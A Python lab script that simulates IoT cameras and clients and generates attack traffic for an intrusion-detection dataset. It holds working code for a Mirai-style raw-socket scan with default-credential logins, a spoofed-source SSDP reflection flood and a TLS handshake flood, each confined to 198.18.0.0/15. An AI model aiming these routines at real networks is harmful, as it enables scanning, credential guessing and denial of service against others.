#!/usr/bin/env python3
"""Devices, normal clients and some attacks of `lab/iot.sh` (an IoT/camera LAN, after the
Kitsune dataset: Mirsky et al., NDSS 2018).

    iot.py telnetd ADDR PORT SECS             a telnet-like login prompt (refuses every login)
    iot.py ssdpd ADDR SECS NAME               answers SSDP M-SEARCH (unicast and 239.255.255.250)
    iot.py tlsd ADDR PORT SECS CERT KEY       an HTTPS server that allows client renegotiation
    iot.py rtp SRC DST PORT PPS SECS          a camera's RTP stream (UDP, ~1000-byte payloads)
    iot.py client ME SECS SEED CAMS...        normal HTTP fetches, SSDP discovery now and then
    iot.py ssdpflood VICTIM COUNT SPORT DEVICES...  M-SEARCH forged from VICTIM:SPORT to every
                                              device (scapy)
    iot.py mirai ME SECS PPS SEED NETS...     Mirai's telnet scan: SYNs to random addresses of the
                                              /24s NETS (as 198.18.0), 23 or 2323, then a login try
    iot.py fuzz ME TCP|UDP ADDR PORT COUNT SEED [SEGS]  random bytes to a service (SFuzz-like;
                                              TCP: SEGS random segments a connection)
    iot.py udpsink ADDR PORT SECS             a UDP socket that takes whatever comes (an open port)
    iot.py discover ME PORT SECS SEED DEVICES...  a UPnP control point: every 10-40 s three
                                              multicast M-SEARCHes 1 s apart, then one unicast
                                              M-SEARCH to each device, from one port
    iot.py tlsflood ME ADDR PORT COUNT THREADS  TLS handshakes, a new connection each (what
                                              thc-ssl-dos falls back to without renegotiation)

Every address is checked to lie in 198.18.0.0/15; every loop is bounded by a count and a time.
"""
import ipaddress
import random
import socket
import struct
import sys
import threading
import time

LAB = ipaddress.ip_network("198.18.0.0/15")


def lab(a):
    if ipaddress.ip_address(a) not in LAB:
        sys.exit(f"{a} is not in {LAB}")
    return a


def telnetd(addr, port, secs):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((lab(addr), int(port)))
    s.listen(16)
    s.settimeout(1.0)
    end = time.time() + float(secs)

    def serve(c):
        try:
            c.settimeout(5)
            c.sendall(b"\xff\xfd\x18\xff\xfd\x20\r\nipcam login: ")
            for _ in range(6):
                d = c.recv(512)
                if not d:
                    break
                c.sendall(b"Password: " if b"\n" in d else b"")
                if b"\n" in d:
                    c.sendall(b"\r\nLogin incorrect\r\nipcam login: ")
        except OSError:
            pass
        c.close()

    while time.time() < end:
        try:
            c, _ = s.accept()
        except OSError:
            continue
        threading.Thread(target=serve, args=(c,), daemon=True).start()


def ssdpd(addr, secs, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", 1900))
    mreq = struct.pack("4s4s", socket.inet_aton("239.255.255.250"), socket.inet_aton(lab(addr)))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    s.settimeout(1.0)
    end = time.time() + float(secs)
    reply = (
        "HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nDATE: Mon, 30 Nov 2026 02:00:00 GMT\r\n"
        "EXT:\r\nLOCATION: http://%s:80/description.xml\r\nSERVER: Linux/3.10 UPnP/1.0 %s/1.2\r\n"
        "ST: upnp:rootdevice\r\nUSN: uuid:2f402f80-da50-11e1-9b23-%012x::upnp:rootdevice\r\n"
        "BOOTID.UPNP.ORG: 7\r\nCONFIGID.UPNP.ORG: 1\r\n\r\n"
        % (addr, name, int(ipaddress.ip_address(addr)))
    ).encode()
    while time.time() < end:
        try:
            d, peer = s.recvfrom(2048)
        except OSError:
            continue
        if d.startswith(b"M-SEARCH"):
            s.sendto(reply, peer)


def tlsd(addr, port, secs, cert, key):
    """An HTTPS server (threads) that lets clients renegotiate, as servers before OpenSSL 3.0
    did by default (SSL_OP_ALLOW_CLIENT_RENEGOTIATION, 1 << 8 in OpenSSL 3.0's ssl.h)."""
    import http.server
    import ssl

    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    ctx.options |= 1 << 8

    class H(http.server.BaseHTTPRequestHandler):
        timeout = 30

        def do_GET(self):
            body = b"<html><body>hub</body></html>\n"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a):
            pass

    srv = http.server.ThreadingHTTPServer((lab(addr), int(port)), H)
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True, do_handshake_on_connect=False)
    srv.timeout = 1.0
    end = time.time() + float(secs)
    while time.time() < end:
        srv.handle_request()


def rtp(src, dst, port, pps, secs):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((lab(src), 0))
    end = time.time() + float(secs)
    seq, ts, ssrc = random.randrange(65536), random.randrange(1 << 32), random.randrange(1 << 32)
    gap = 1.0 / float(pps)
    while time.time() < end:
        n = random.choice([1000, 1000, 1000, 1200, 400])
        hdr = struct.pack("!BBHII", 0x80, 96, seq & 0xFFFF, ts & 0xFFFFFFFF, ssrc)
        s.sendto(hdr + random.randbytes(n), (lab(dst), int(port)))
        seq += 1
        ts += 3600
        time.sleep(gap)


def msearch(sock, to):
    sock.sendto(
        b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\n'
        b"MX: 1\r\nST: ssdp:all\r\n\r\n",
        to,
    )


def client(me, secs, seed, *cams):
    import urllib.request

    rnd = random.Random(int(seed))
    end = time.time() + float(secs)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((lab(me), 0))
    u.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    u.settimeout(0.2)
    next_ssdp = time.time() + rnd.uniform(5, 30)
    while time.time() < end:
        cam = lab(rnd.choice(cams))
        try:
            urllib.request.urlopen(f"http://{cam}/", timeout=2).read()
        except OSError:
            pass
        if time.time() > next_ssdp:
            msearch(u, ("239.255.255.250", 1900))
            for _ in range(20):
                try:
                    u.recvfrom(2048)
                except OSError:
                    break
            next_ssdp = time.time() + rnd.uniform(20, 60)
        time.sleep(rnd.uniform(0.5, 3.0))


def ssdpflood(victim, count, sport, *devices):
    from scapy.all import IP, UDP, Raw, send

    pkts = []
    q = (
        b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\n'
        b"MX: 1\r\nST: ssdp:all\r\n\r\n"
    )
    for i in range(int(count)):
        d = devices[i % len(devices)]
        pkts.append(IP(src=lab(victim), dst=lab(d)) / UDP(sport=int(sport), dport=1900) / Raw(q))
    send(pkts, inter=0.001, verbose=False)


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def mirai(me, secs, pps, seed, *nets):
    """Mirai's scanner (scanner.c): from a raw socket (IP_HDRINCL), a SYN to a random address,
    port 23 nine times in ten else 2323, sequence number = the destination address, random IP
    ID, window and source port, a bare 20-byte TCP header; a SYN-ACK from a port it probed gets
    a connect() and a login try (root/xc3511, then admin/admin). The kernel resets the SYN-ACKs
    (no socket), as it does Mirai's."""
    rnd = random.Random(int(seed))
    end = time.time() + float(secs)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    rx.setblocking(False)
    src = socket.inet_aton(lab(me))
    found = set()
    gap = 1.0 / float(pps)
    while time.time() < end:
        dst = lab(f"{rnd.choice(nets)}.{rnd.randrange(1, 255)}")
        d = socket.inet_aton(dst)
        port = 23 if rnd.random() < 0.9 else 2323
        sport = rnd.randrange(1024, 65536)
        tcp = struct.pack("!HHIIBBHHH", sport, port, struct.unpack("!I", d)[0], 0, 5 << 4, 0x02,
                          rnd.randrange(65536), 0, 0)
        c = checksum(src + d + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, rnd.randrange(65536), 0, 64, 6, 0, src, d)
        try:
            raw.sendto(ip + tcp, (dst, 0))
        except OSError:
            pass
        while True:
            try:
                pkt = rx.recv(128)
            except OSError:
                break
            ihl = (pkt[0] & 15) * 4
            sp, dp = struct.unpack("!HH", pkt[ihl:ihl + 4])
            if pkt[ihl + 13] & 0x12 == 0x12 and dp >= 1024 and sp in (23, 2323):
                found.add((socket.inet_ntoa(pkt[12:16]), sp))
        time.sleep(gap)
    for host, port in sorted(found)[:4]:
        for user, pw in [(b"root", b"xc3511"), (b"admin", b"admin")]:
            try:
                c = socket.create_connection((lab(host), port), timeout=3)
                c.recv(256)
                c.sendall(user + b"\r\n")
                c.recv(256)
                c.sendall(pw + b"\r\n")
                c.recv(256)
                c.close()
            except OSError:
                pass


def fuzz(me, kind, addr, port, count, seed, segs=1):
    rnd = random.Random(int(seed))
    for i in range(int(count)):
        data = bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 1400)))
        try:
            if kind == "TCP":
                c = socket.create_connection((lab(addr), int(port)), timeout=2,
                                             source_address=(lab(me), 0))
                c.sendall(data)
                for _ in range(int(segs) - 1):
                    time.sleep(0.01)
                    c.sendall(bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 600))))
                c.settimeout(0.2)
                try:
                    c.recv(512)
                except OSError:
                    pass
                c.close()
            else:
                u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                u.bind((lab(me), 0))
                u.sendto(data, (lab(addr), int(port)))
                u.close()
        except OSError:
            pass
        time.sleep(rnd.uniform(0.005, 0.05))


def udpsink(addr, port, secs):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((lab(addr), int(port)))
    s.settimeout(1.0)
    end = time.time() + float(secs)
    while time.time() < end:
        try:
            s.recvfrom(4096)
        except OSError:
            pass


def discover(me, port, secs, seed, *devices):
    rnd = random.Random(int(seed))
    end = time.time() + float(secs)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u.bind((lab(me), int(port)))
    u.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 2)
    u.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(me))
    u.settimeout(0.1)

    def drain(secs):
        t = time.time() + secs
        while time.time() < t:
            try:
                u.recvfrom(4096)
            except OSError:
                pass

    while time.time() < end:
        for _ in range(3):
            msearch(u, ("239.255.255.250", 1900))
            drain(1.0)
        for d in devices:
            msearch(u, (lab(d), 1900))
            drain(0.05)
        drain(min(rnd.uniform(10, 40), max(0.0, end - time.time())))


def tlsflood(me, addr, port, count, threads):
    import ssl

    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    left = [int(count)]
    lock = threading.Lock()

    def run():
        while True:
            with lock:
                if left[0] <= 0:
                    return
                left[0] -= 1
            try:
                c = socket.create_connection((lab(addr), int(port)), timeout=2,
                                             source_address=(lab(me), 0))
                t = ctx.wrap_socket(c)
                t.close()
            except OSError:
                pass

    ts = [threading.Thread(target=run) for _ in range(int(threads))]
    for t in ts:
        t.start()
    for t in ts:
        t.join()


if __name__ == "__main__":
    cmds = {"telnetd": telnetd, "ssdpd": ssdpd, "tlsd": tlsd, "rtp": rtp, "client": client,
            "ssdpflood": ssdpflood, "mirai": mirai, "fuzz": fuzz, "udpsink": udpsink, "discover": discover,
            "tlsflood": tlsflood}
    if len(sys.argv) < 2 or sys.argv[1] not in cmds:
        sys.exit(__doc__)
    cmds[sys.argv[1]](*sys.argv[2:])
